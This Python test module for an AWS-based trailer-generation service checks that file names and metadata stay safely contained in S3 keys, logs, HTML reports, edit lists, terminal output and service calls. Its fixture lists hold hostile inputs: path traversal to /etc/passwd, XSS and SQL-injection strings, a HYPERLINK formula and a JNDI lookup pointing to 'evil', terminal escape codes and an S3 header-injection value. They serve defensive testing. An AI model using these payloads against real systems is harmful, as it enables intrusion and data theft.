"""Names written to do harm stay where they belong: in their prefix, on their line, inside the page's text."""

import io
import json
import logging
import re
import string
from html.parser import HTMLParser

import botocore.session
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli import console, wishes
from tests.fakes import FakeUploads, fake_services, upload_event
from tests.unit.wire.films import analysis_of, clip, film, plan_of
from trailer import runtime
from trailer.aws.s3 import S3Uploads
from trailer.aws.sns import SnsNotifier
from trailer.domain.film.concepts import Concept
from trailer.domain.film.gates import Gate
from trailer.domain.planning.plan import RejectedScene
from trailer.domain.reasons import explain
from trailer.domain.taste.profiles import load_profiles
from trailer.domain.time.timecode import FrameRange
from trailer.domain.work.plain import plain
from trailer.domain.work.upload import ObjectVersion, video_id
from trailer.steps.apply_sidecar import _name as execution_name
from trailer.steps.apply_sidecar import apply_sidecar
from trailer.wire import keys
from trailer.wire.edl import to_edl
from trailer.wire.mediaconvert import build_proxy_job
from trailer.wire.report import render_report

FILE_INPUT = (
    botocore.session.get_session().get_service_model("mediaconvert").shape_for("Input").members["FileInput"]
)

HOSTILE = [
    "../../../etc/passwd",
    "..",
    "/",
    "a//../b.mp4",
    "<script>alert(1)</script>.mp4",
    '"><img src=x onerror=alert(1)>.mp4',
    "'; DROP TABLE films; --.mp4",
    '=HYPERLINK("http://evil")',
    "[red]bold[/red][link=file:///etc/passwd]x[/link]",
    "film\n001  AX  V  C 00:00:00:00",
    "film\r\nSubject: won",
    "\x1b]0;owned\x07\x1b[2J\x9b31m.mp4",
    "\u202egpj.exe\u2066.mp4",
    "line\u2028two\u2029three\x85.mp4",
    "\x00.mp4",
    "{0.__class__}%s${jndi:ldap://evil}.mp4",
    "$dt$-$fn$.mp4",
    "é" * 512,
    "x" * 1024,
    "",
    "films/",
]
NAMES = st.one_of(st.sampled_from(HOSTILE), st.text(st.characters(exclude_categories=["Cs"]), max_size=60))


@given(NAMES)
def test_no_key_leaves_its_prefix_in_the_results_bucket(key):
    identity = video_id(ObjectVersion("source", key, "v1"))
    assert re.fullmatch(r"[a-z0-9-]{1,57}", identity)
    assert keys.trailer(identity, "action", 1) == f"videos/{identity}/trailers/action/0001/"


@given(NAMES)
def test_a_name_for_people_is_one_line_of_what_can_be_shown(key):
    name = ObjectVersion("source", key, "v1").name
    assert len(name.splitlines()) <= 1
    assert not set(name) & set(map(chr, [*range(32), *range(127, 160), 0x202E, 0x2066]))
    assert plain(name) == name


@pytest.mark.parametrize("name", ["日本語 فارسی‌ها.mp4", "Amélie (2001) – [4K] 👩‍🚀.mov"])
def test_the_names_of_the_world_stay_as_they_are(name):
    assert ObjectVersion("source", f"films/{name}", "v1").name == name


class Published:
    def publish(self, **call):
        self.call = call


@given(NAMES)
def test_the_subject_of_a_message_is_a_line_that_sns_takes(name):
    topic = Published()
    SnsNotifier(topic, "arn").notify(f"REJECTED: {name}", {"subject": name})
    assert re.fullmatch(r"[ -~]{1,100}", topic.call["Subject"])
    assert json.loads(topic.call["Message"]) == {"subject": name}


@given(NAMES)
def test_the_log_keeps_to_one_line_of_ascii_for_each_message(name):
    record = logging.LogRecord("t", logging.WARNING, "", 1, name, None, None)
    record.error = name
    line = runtime.logger.registered_formatter.format(record)
    assert line.isascii() and line.isprintable()
    assert json.loads(line)["error"] == name


@given(NAMES)
def test_a_reason_is_one_line_of_what_can_be_shown(name):
    reason = explain("InvalidOptionsError", f"{name} is not known.").sentence
    assert plain(reason) == reason


class Page(HTMLParser):
    """What a browser makes elements and attributes of."""

    def __init__(self, text):
        super().__init__()
        self.shape, self.links = [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.shape.append((tag, tuple(name for name, _ in attrs)))
        self.links += [value for name, value in attrs if name in ("href", "src", "poster")]


def page(word):
    media = film()
    analysis = analysis_of(
        media,
        concepts=(Concept("label", word, rarity=0.8), Concept("celebrity", word, rarity=0.9)),
        gates=(Gate(FrameRange(0, 24), f"Moderation:{word}"),),
        detectors={"segments": True, word + "!": True},
    )
    cut = clip(
        240, 480, parts={f"label:{word}": 0.3, f"celebrity:{word}": 0.2}, reasons=(f"{word} is seen.",)
    )
    plan = plan_of(
        cut, warnings=(f"{word}.vtt can't be read",), rejected=(RejectedScene(3, word or "code", word),)
    )
    return render_report(plan, analysis, title=word, files=["trailer_1080p.mp4", f"{word}.m3u8"])


@given(NAMES)
def test_no_word_on_the_page_becomes_an_element_an_attribute_or_a_link_elsewhere(word):
    ours, theirs = Page(page("Car")), Page(page(word))
    assert theirs.shape == ours.shape
    assert all(link.startswith("./") for link in theirs.links)


@given(NAMES)
def test_no_word_becomes_an_event_of_the_edit_list(word):
    plan = plan_of(clip(0, 24, reasons=(word,)), clip(48, 72, reasons=(word,)))
    lines = to_edl(plan, word).splitlines()
    assert len([line for line in lines if re.match(r"\d{3}  ", line)]) == 2
    assert all(re.match(r"TITLE: |FCM: |\d{3}  |\* |$", line) for line in lines)


@pytest.fixture
def screens(monkeypatch, capsys):
    """What stdout and stderr get, with and without a terminal."""
    from rich.console import Console

    def show(terminal, act):
        file = io.StringIO()
        screen = Console(file=file, force_terminal=terminal, highlight=False, soft_wrap=True, width=2000)
        monkeypatch.setattr(console, "out", lambda: screen)
        monkeypatch.setattr(console, "err", lambda: screen)
        monkeypatch.setattr(console, "is_terminal", lambda: terminal)
        act()
        captured = capsys.readouterr()
        return file.getvalue() + captured.out + captured.err

    return show


@pytest.mark.parametrize("terminal", [True, False])
@pytest.mark.parametrize("name", [name for name in HOSTILE if "\n" not in name and len(name) < 100])
def test_no_name_moves_the_cursor_or_paints_the_terminal(screens, terminal, name):
    def act():
        console.say(name)
        console.note(name)
        console.complain(name)
        console.table(name, ["video"], [[name]])
        console.json_lines([{"key": name}])

    own = re.compile(r"\x1b\[[0-9;]*m")
    shown = own.sub("", screens(terminal, act))
    assert set(shown) <= {"\n", "\t"} | {letter for letter in shown if letter.isprintable()}
    if name.startswith("[red]"):
        assert shown.count(name) >= 4


class Bucket:
    """Answers as S3 does; fails where a key is one that S3 or boto3 refuses."""

    def __init__(self, body=b"", metadata=None):
        self.body, self.metadata, self.read_bytes = io.BytesIO(body), metadata or {}, None

    def get_object(self, *, Bucket, Key):
        assert 0 < len(Key.encode()) <= 1024, "KeyTooLongError"
        return {"ContentLength": 1 << 30, "Body": self}

    def head_object(self, *, Bucket, Key, VersionId=None):
        assert Key, "ParamValidationError"
        return {"ContentLength": 5, "ETag": '"e"', "Metadata": self.metadata, "VersionId": "v1"}

    def read(self, amount=None):
        raise AssertionError("not one byte of it is needed")


def test_a_sidecar_of_a_gigabyte_is_refused_without_reading_it():
    with pytest.raises(Exception, match="1073741824 bytes; allowed are 65536"):
        S3Uploads(Bucket()).sidecar(ObjectVersion("source", "film.mp4", "v1"))


@pytest.mark.parametrize("key", ["x" * 1024, "é" * 512, "x" * 1012])
def test_a_film_whose_key_leaves_no_room_for_a_sidecars_has_none(key):
    uploads = S3Uploads(Bucket())
    assert uploads.sidecar(ObjectVersion("source", key, "v1")) is None
    assert uploads.beside(ObjectVersion("source", key, "v1"), f"{key}.transcript.json", 10) is None


def test_a_sidecar_of_no_film_at_all_is_nothing():
    services = fake_services(uploads=S3Uploads(Bucket()))
    assert apply_sidecar(upload_event(key=".trailer.json"), services) == {"applied": "with the film"}


METADATA = [
    "=?unicode_escape?q?=5Cud800?=",
    "=?utf-7?q?+2AA-?=",
    "=?\x00?q?a?=",
    "=?zip?q?x?=",
    "=?utf-8?b?////?=",
    "=?unknown-8bit?q?=FF?=",
]


@given(st.one_of(st.sampled_from(METADATA), st.text(string.printable, max_size=80)))
def test_any_metadata_becomes_text_that_can_be_written_down(value):
    head = S3Uploads(Bucket(metadata={"ban": value})).head(ObjectVersion("source", "film.mp4", "v1"))
    head.metadata["ban"].encode()


def test_a_wish_can_not_add_a_header_to_the_upload():
    words = wishes.metadata({"ban": "1-2\r\nx-amz-acl: public-read"})
    assert words["ban"].isascii() and words["ban"].isprintable()


def test_options_that_break_are_told_in_one_line():
    name = "film\x1b[2J\u202e.mp4"
    uploads = FakeUploads(options=b"{", newest={name: "v1"})
    services = fake_services(uploads=uploads)
    services.catalogue.claim(
        {"videoId": video_id(ObjectVersion("source", name, "v1")), "record": "VIDEO", "status": "ANALYSING"}
        | {"executionId": "e", "sidecar": ""}
    )
    told = apply_sidecar(upload_event(key=f"{name}.trailer.json"), services)
    assert "no JSON file" in told["problem"] and plain(told["problem"]) == told["problem"]


@given(NAMES.filter(lambda key: len(key.encode()) <= 1024))
def test_mediaconvert_is_asked_for_every_key_as_it_takes_it(key):
    """By the pattern and the length of the service's own model; format identifiers like $dt$ never get there."""
    source = ObjectVersion("b" * 63, key, "v1")
    job = build_proxy_job(
        film(), source_uri=source.uri, destination_uri=f"s3://results/{keys.proxy('c', 'r')}.mp4"
    )
    asked = job["Inputs"][0]["FileInput"]
    assert asked == f"s3://{'b' * 63}/{key}"
    assert len(asked) <= FILE_INPUT.metadata["max"] and re.match(FILE_INPUT.metadata["pattern"], asked)
    assert "$" not in json.dumps(job["OutputGroups"])


@given(st.sampled_from(sorted(load_profiles())), st.text())
def test_an_execution_that_a_sidecar_asks_for_has_a_name_that_step_functions_takes(profile, wish):
    assert re.fullmatch(r"[\w-]{1,80}", execution_name({"profileId": profile, "options": wish}), re.ASCII)
